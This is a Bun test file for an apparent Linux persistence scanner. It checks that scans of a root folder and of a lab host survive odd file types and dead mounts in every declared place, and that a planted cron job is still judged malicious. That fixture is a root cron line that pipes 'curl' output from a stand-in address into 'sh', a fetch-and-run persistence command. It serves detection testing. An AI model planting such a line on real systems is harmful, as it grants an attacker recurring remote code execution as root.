/**
 * Something odd in the place of every file that artifacts declare, on a root folder and on a live host
 * (`kernel-files.test.ts` has those of the kernel): the scan ends within ten seconds of the clean one, tells each place, and still finds what is planted.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { chmodSync, lstatSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { resultSchema, type ScanResult } from '../../src/model/result.ts';
import { exitCodes } from '../../src/model/verdict.ts';
import { mount, mountFlag, umount, umountFlag } from '../../src/native/namespaces.ts';
import { type LabHost, listedSources, openLabHost } from '../lab/harness.ts';
import { repository } from '../lab/host.ts';
import { declaredPlaces } from '../persistence/declared-places.ts';
import { type PlantedRoot, plantRoot } from '../persistence/root.ts';
import { scanCase } from './case-files.ts';

/** Seconds that all of it may cost. */
const grace = 10;
const job = '/etc/cron.d/planted';
const planted = '* * * * * root curl -s http://192.0.2.10/x | sh\n';
const program = join(import.meta.dir, 'odd-places.ts');

/** Declared places that are not opened for what lies there, and why. */
const notRead: readonly (readonly [artifact: string, pattern: RegExp, why: string])[] = [
  ['linux.init-scripts', /^\/etc\/runlevels\//, 'links to scripts that are read where they lie'],
  ['linux.init-scripts', /^\/etc\/conf\.d\//, 'settings of a service that is there'],
  [
    'linux.name-service',
    /libnss_/,
    'libraries are looked at where nsswitch.conf names them, and it names none',
  ],
  ['linux.pam', /\/security\//, 'modules are looked at, by kind and owner; never read'],
  ['linux.accounts', /\/(?:nologin|false)$/, 'only which inode it is counts'],
  [
    'linux.(?:authorized-keys|sshd|ssh-trust|ssh-rc)',
    /sshd_config/,
    'read where the first one is absent, or includes it',
  ],
  [
    'linux.dnf-plugin',
    /plugins\/\*$|\.action\*$/,
    'libraries by kind and owner; actions where the plugin is on',
  ],
  ['linux.git-(?:hook|setting)', /\*\.git\//, 'a repository without a work tree is known by its HEAD'],
  ['linux.php-prepend', /\.so$|lsws|\/etc\/php\*\//, 'extensions where a setting names them; other layouts'],
  ['linux.docker-settings', /cli-plugins/, 'programs by kind and owner; never read'],
  ['linux.overlay-files', /./, 'layers of containers that the state names'],
  ['linux.podman', /overlay-containers/, 'containers that the list of Podman names'],
  ['linux.redis', /\*\.conf$/, 'settings by their usual names'],
  [
    'linux.database-functions',
    /./,
    'libraries and clusters by kind and owner; settings of a cluster that is there',
  ],
  [
    'linux.integrity',
    /local\/(?:s?bin|\{)|^\/var\/lib\/(?:dpkg|pacman)/,
    'tools by their first bytes; lists for what entries rest on',
  ],
  ['linux.(?:compose|kubernetes-manifests)', /\*\*/, 'found by a search for plain files'],
  ['linux.docker-containers', /hostconfig/, 'of containers whose own settings can be read'],
  ['linux.dpkg-script', /\*\.list$/, 'only their names and times count'],
  ['linux.docker-containers', /^\/home\//, 'state of a container that docker itself would start'],
];

/** Of a folder. */
const notReadOfFolder: typeof notRead = [
  ['linux.processes', /^\/etc\/passwd$/, 'nobody runs there'],
  ['linux.load-history', /./, 'read as logs, where logs are read'],
];

const isExcused = (artifact: string, pattern: string, scope: string): boolean =>
  [...notRead, ...(scope === 'files' ? notReadOfFolder : [])].some(
    ([of, form]) => new RegExp(`^${of}$`).test(artifact) && form.test(pattern),
  );

/**
 * A folder where a file is asked for by its name is told; nobody asks for one among the files of a folder. Only looked
 * at where folders were put: what never answers answers no test either.
 */
const isFolder = (what: string, root: string, path: string): boolean =>
  /^(?:folder|mixed)/.test(what) &&
  lstatSync(join(root, decodeURIComponent(path)), { throwIfNoEntry: false })?.isDirectory() === true;

/** Databases of packages are read by those whom all artifacts ask, and told under their names. */
const tellers: Readonly<Record<string, readonly string[]>> = {
  'linux.integrity': ['linux.integrity', 'linux.file-integrity', 'linux.file-owners'],
};

/** Artifacts with a pattern none of whose places they tell with a status that says that something is wrong there. */
function untold(
  result: ScanResult,
  what: string,
  root: string,
  left: readonly string[] = [],
): readonly string[] {
  const told = new Set(
    listedSources(result)
      .filter(({ status }) => status !== 'absent' && status !== 'empty')
      .map(({ artifact, source }) => `${artifact} ${source}`),
  );
  return declaredPlaces()
    .filter(({ artifact, pattern }) => !isExcused(artifact, pattern, result.host.scope))
    .filter(({ pattern }) => !left.includes(pattern))
    .filter(
      ({ pattern, paths }) => !(pattern.includes('*') && paths.every((path) => isFolder(what, root, path))),
    )
    .filter(
      ({ artifact, paths }) =>
        !(tellers[artifact] ?? [artifact]).some((by) =>
          paths.some((path) => told.has(`${by} ${path}`) || told.has(`${by} /usr${path}`)),
        ),
    )
    .map(({ artifact, pattern }) => `${artifact} ${pattern}`);
}

function expectWhole(result: ScanResult, code: number): void {
  expect(code).toBe(exitCodes[result.verdict]);
  expect(result.verdict).not.toBe('clean');
  expect(result.persistence.find(({ source }) => source === job)?.judgement).toBe('malicious');
}

describe('on a root folder', () => {
  let root: PlantedRoot;
  let cleanSeconds = 0;

  async function put(what: string): Promise<Bun.Subprocess> {
    const putting = Bun.spawn([process.execPath, program, root.path, what], {
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    const { value } = await putting.stdout.getReader().read();
    expect(Buffer.from(value ?? []).toString()).toBe('put\n');
    return putting;
  }

  async function scanned(killAfter: number, through: readonly string[] = []) {
    const main = join(repository, 'src', 'cli', 'main.ts');
    const command = [process.execPath, main, 'scan', '--lang', 'en', '--no-case', '--json', '-', root.path];
    const begun = performance.now();
    const scan = Bun.spawn(['timeout', '--signal=KILL', killAfter.toFixed(1), ...through, ...command], {
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const [json, told] = await Promise.all([
      new Response(scan.stdout).text(),
      new Response(scan.stderr).text(),
    ]);
    const code = await scan.exited;
    if (json === '') throw new Error(`no result (exit ${code}): ${told.slice(-2000)}`);
    return {
      result: resultSchema.parse(JSON.parse(json)),
      code,
      seconds: (performance.now() - begun) / 1000,
    };
  }

  beforeAll(async () => {
    root = plantRoot();
    // A mount of its own, so that all that is mounted below goes with it.
    mount({ source: root.path, target: root.path, flags: mountFlag.bind });
    chmodSync(root.path, 0o755);
    mkdirSync(join(root.path, 'etc/cron.d'), { recursive: true });
    mkdirSync(join(root.path, 'srv'));
    writeFileSync(join(root.path, job), planted);
    await (await put('plain')).exited;
    const clean = await scanned(100);
    expectWhole(clean.result, clean.code);
    cleanSeconds = clean.seconds;
  });
  afterAll(() => {
    umount(root.path, umountFlag.detach);
    root.remove();
  });

  for (const what of [
    ...['pipe', 'hole', 'almost-a-hole', 'folder', 'loop', 'device', 'unreadable', 'mixed-2'],
    'dead-mount',
  ]) {
    test(`${what} in every place`, async () => {
      const putting = await put(what);
      try {
        const through =
          what === 'unreadable' ? ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups'] : [];
        const { result, code } = await scanned(cleanSeconds + grace, through);
        expectWhole(result, code);
        expect(untold(result, what, root.path)).toEqual([]);
      } finally {
        putting.kill('SIGKILL');
        await putting.exited;
      }
    });
  }
});

describe('on a live host', () => {
  let host: LabHost;
  let cleanSeconds = 0;

  async function scanned(killAfterSeconds: number) {
    const begun = performance.now();
    const scan = await scanCase(host, ['--interval', '1'], { killAfterSeconds });
    return { ...scan, seconds: (performance.now() - begun) / 1000 };
  }

  beforeAll(async () => {
    host = await openLabHost();
    writeFileSync(join(host.root, job), planted);
    const clean = await scanned(100);
    expectWhole(clean.result, clean.code);
    cleanSeconds = clean.seconds;
  });
  afterAll(async () => {
    await host.stop();
  });

  for (const what of ['mixed-0', 'dead-mount']) {
    test(`${what} in every place`, async () => {
      const put = [process.execPath, program, '/', what];
      if (what === 'dead-mount') await host.start(put, { readyLine: 'put' });
      else expect((await host.run(put)).stderr).toBe('');
      const { result, code } = await scanned(cleanSeconds + grace);
      expectWhole(result, code);
      // The one place that the program leaves alone on a live host.
      expect(untold(result, what, host.root, ['/etc/ld.so.preload'])).toEqual([]);
    });
  }
});
